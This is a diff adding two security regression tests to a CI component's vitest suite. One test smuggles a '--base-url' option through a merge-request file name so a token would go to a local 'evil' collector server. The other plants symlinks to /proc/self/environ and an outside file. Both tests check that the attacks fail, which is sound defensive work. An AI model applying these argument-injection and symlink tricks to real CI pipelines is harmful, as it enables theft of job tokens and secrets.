@@ -7,7 +7,9 @@
  * ORGFORM_RELEASES_URL gives, as a project variable wins over the component's.
  */
 import { existsSync } from 'node:fs';
-import { readFile, writeFile } from 'node:fs/promises';
+import { readFile, symlink, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -263,6 +265,49 @@ describe('templates/orgform.yml: the jobs, run', { timeout: 120_000 }, () => {
     expect(apply.code).toBe(1);
     expect(apply.stdout + apply.stderr).toMatch(/max-changes/);
     expect(emulator.store.dump().organisations.find((o) => o.id === 'org_acme')?.billing?.billingEmail).toBe('billing@acme.example');
+  });
+
+  it('takes no option from a file name of the merge request: the files input is not expanded as a wildcard, so a name holding --base-url sends the token nowhere', async () => {
+    const stolen: string[] = [];
+    const evil = createServer((req, res) => {
+      stolen.push(String(req.headers.authorization));
+      res.writeHead(500).end();
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    try {
+      const port = (evil.address() as AddressInfo).port;
+      // A files input written as a wildcard; the merge request adds a file whose name, split on its
+      // spaces, is a file of its own, then options (no "/" can be in a name: http:HOST:PORT is a URL).
+      const cwd = await project([{ files: 'teams/*.yaml' }], {
+        branch: 'feature',
+        files: { 'teams/a.yaml': CHANGING_CONFIG, '.yaml': 'version: 1\norganisations: {}\n', [`teams/a.yaml --base-url=http:127.0.0.1:${port} -f.yaml`]: '' },
+      });
+      const results = [await runComponentJob(cwd, 'orgform-plan'), await runComponentJob(cwd, 'orgform-validate')];
+      expect(stolen).toEqual([]);
+      for (const result of results) {
+        expect(result.code).toBe(1);
+        expect(result.stderr).toContain('teams/*.yaml');
+      }
+      expect(emulator.counters.total).toBe(0);
+    } finally {
+      await new Promise((resolve) => evil.close(resolve));
+    }
+  });
+
+  it("reads and writes nothing through links the merge request planted at plan.md and plan.err: the job's environment stays out of the log and the note", async () => {
+    const cwd = await project([{}], { branch: 'feature', files: { 'orgs.yaml': 'version: 2\n' } });
+    const outside = await makeWorkspace({ 'victim.txt': 'untouched\n' });
+    // The job's own environment (GITLAB_API_TOKEN, CI_JOB_TOKEN, ORGFORM_PLAN_TOKEN in it), and a
+    // file of the runner that a redirect would overwrite.
+    await symlink('/proc/self/environ', join(cwd, 'plan.err'));
+    await symlink(join(outside, 'victim.txt'), join(cwd, 'plan.md'));
+    const result = await runComponentJob(cwd, 'orgform-plan');
+    expect(result.code).toBe(1);
+    expect(await readFile(join(outside, 'victim.txt'), 'utf8')).toBe('untouched\n');
+    for (const text of [result.stdout, result.stderr, ...gitlab.comments.map((c) => c.body)]) {
+      for (const secret of ['glpat-note', 'job-token', 'ORGFORM_PLAN_TOKEN=']) expect(text).not.toContain(secret);
+    }
+    expect(gitlab.comments[1]!.body).toContain('unsupported version 2');
   });
 
   it('apply applies the configuration from the working directory, keeps the journal in GitLab-managed Terraform state, and the next plan finds nothing to do', async () => {
